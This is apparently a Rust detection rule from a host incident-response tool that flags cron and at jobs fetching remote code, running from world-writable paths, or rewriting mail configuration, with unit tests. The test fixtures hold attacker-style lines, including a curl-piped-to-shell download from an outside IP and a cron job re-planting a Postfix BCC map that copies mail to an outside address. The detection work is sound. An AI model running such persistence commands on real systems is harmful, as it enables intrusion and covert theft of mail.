//! `persistence.cron` — scheduled commands that fetch and run code, open connections, run from
//! hidden or world-writable places, or rewrite the mail configuration (re-planting a forward
//! or BCC map the responder removes).
//!
//! **Why**: the sample attacker's root crontab pulls a script every 30 minutes and a cron.d job
//! puts the BCC map back every 20; cleaning the mail config without the cron job loses to it.
//! An `at` job queued for the night restarts an implant after the responder has looked.
//! **How**: every job of `/etc/crontab`, `/etc/cron.d/*`, `/etc/anacrontab`, spool crontabs,
//! `cron.{hourly,daily,weekly,monthly}` scripts and the `at` spool
//! (`/var/spool/cron/atjobs/*`, `/var/spool/at/*`: the job's own lines, not the submitter's
//! environment), read by [`crate::hostconf::cron`], judged by
//! [`crate::detect::host::risky_command`] and by whether it writes mail configuration
//! (`/etc/postfix`, aliases, `postmap`/`postalias`/`newaliases`, `postconf -e`, Exim, sendmail,
//! Dovecot, `.forward`, sieve) or names an outside mail address. Systemd units and timers are
//! `persistence.service`'s (judged once, there). **Severity**: high.
//! **ATT&CK**: T1053.003 (Scheduled Task/Job: Cron), T1053.002 (Scheduled Task/Job: At) for
//! `at` jobs. **False positives**: a site's own map rebuild job (`postmap` from a provisioning
//! script): named by file and line for a check.

use super::super::host::{risky_command, Cites, ConfigRule, Host};
use crate::detect::finding::{Finding, Severity};
use crate::hostconf::cron::jobs;

/// The rule.
pub struct Cron;

const MAIL_CONFIG: &[&str] = &[
    "/etc/postfix",
    "/etc/aliases",
    "postmap",
    "postalias",
    "newaliases",
    "postconf -e",
    "/etc/exim",
    "/etc/mail/",
    "/etc/dovecot",
    ".forward",
    ".procmailrc",
    ".dovecot.sieve",
    "sieve/",
    ".qmail",
];

fn why(host: &Host, cmd: &str) -> Option<String> {
    if let Some(w) = risky_command(cmd) {
        return Some(w.to_string());
    }
    let touches = MAIL_CONFIG.iter().any(|m| cmd.contains(m));
    let writes = cmd.contains('>')
        || cmd.contains("postmap")
        || cmd.contains("postalias")
        || cmd.contains("newaliases")
        || cmd.contains("postconf -e")
        || cmd.contains("sed -i")
        || cmd.contains("cp ")
        || cmd.contains("tee ");
    if touches && writes {
        let ext = cmd
            .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ',' | '<' | '>'))
            .find(|w| w.contains('@') && host.domains.is_external(w));
        return Some(match ext {
            Some(a) => format!("rewrites mail configuration (names {a})"),
            None => "rewrites mail configuration".to_string(),
        });
    }
    None
}

impl ConfigRule for Cron {
    fn check(&self, host: &Host) -> Vec<Finding> {
        let mut out = Vec::new();
        for (path, f) in &host.conf.files {
            for job in jobs(path, &f.text()) {
                let Some(reason) = why(host, &job.command) else {
                    continue;
                };
                let c = Cites::one(&host.conf, path, Some(job.line));
                let at = job.schedule == "at";
                let mut finding = c.finding(
                    "persistence.cron",
                    Severity::High,
                    vec![if at { "T1053.002" } else { "T1053.003" }],
                    format!(
                        "{} of {} {reason}",
                        if at { "Queued at job" } else { "Scheduled job" },
                        job.user
                    ),
                    format!(
                        "{path} line {} ({}, as {}): {} — {reason}",
                        job.line, job.schedule, job.user, job.command
                    ),
                );
                finding.entities.users.push(job.user.clone());
                out.push(finding);
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::rules::config_tests::host;

    #[test]
    fn download_exec_and_replanting_jobs() {
        let h = host(&[
            ("/etc/mailname", "lab.example\n"),
            ("/var/spool/cron/crontabs/root", "30 3 * * * /usr/local/sbin/backup-mail.sh >/dev/null 2>&1\n*/30 * * * * /usr/bin/curl -fsS http://203.0.113.77/p.sh | /bin/sh\n"),
            ("/etc/cron.d/pf-maint", "SHELL=/bin/sh\n*/20 * * * * root grep -q a /etc/postfix/rbcc || (echo 'b@lab.example c@out.example' > /etc/postfix/rbcc && postmap /etc/postfix/rbcc)\n"),
        ]);
        let f = Cron.check(&h);
        let got: Vec<(String, Vec<u64>, String)> = f
            .iter()
            .map(|f| {
                (
                    f.entities.files[0].clone(),
                    f.evidence[0].lines.clone(),
                    f.title.clone(),
                )
            })
            .collect();
        assert_eq!(got.len(), 2, "{got:?}");
        assert_eq!(got[0].1, [2]);
        assert!(
            got[0]
                .2
                .contains("rewrites mail configuration (names c@out.example)"),
            "{got:?}"
        );
        assert_eq!(
            (got[1].0.as_str(), got[1].1.clone()),
            ("/var/spool/cron/crontabs/root", vec![2])
        );
    }

    #[test]
    fn at_jobs_are_judged_and_units_are_not() {
        let real = include_str!(
            "../../../tests/fixtures/host-init/root/var/spool/cron/atjobs/a0000101c8e785"
        );
        let h = host(&[
            ("/var/spool/cron/atjobs/a0000101c8e785", real),
            ("/var/spool/cron/atjobs/.SEQ", "1\n"),
            // persistence.service judges units; cron no longer reads them.
            (
                "/etc/systemd/system/dbus-sync.service",
                "[Service]\nExecStart=/dev/shm/.x/dbus-sync\n",
            ),
        ]);
        let f = Cron.check(&h);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(
            f[0].title,
            "Queued at job of root runs from a world-writable directory"
        );
        assert_eq!(f[0].attack, vec!["T1053.002"]);
        assert_eq!(f[0].evidence[0].lines, [12]);
    }

    #[test]
    fn ordinary_jobs_are_quiet() {
        let h = host(&[
            ("/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"),
            ("/etc/cron.d/certbot", "0 */12 * * * root test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew\n"),
            ("/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n"),
            ("/etc/cron.d/pflogsumm", "10 0 * * * root /usr/sbin/pflogsumm -d yesterday /var/log/mail.log | mail -s stats postmaster\n"),
        ]);
        assert!(Cron.check(&h).is_empty(), "{:?}", Cron.check(&h));
    }
}
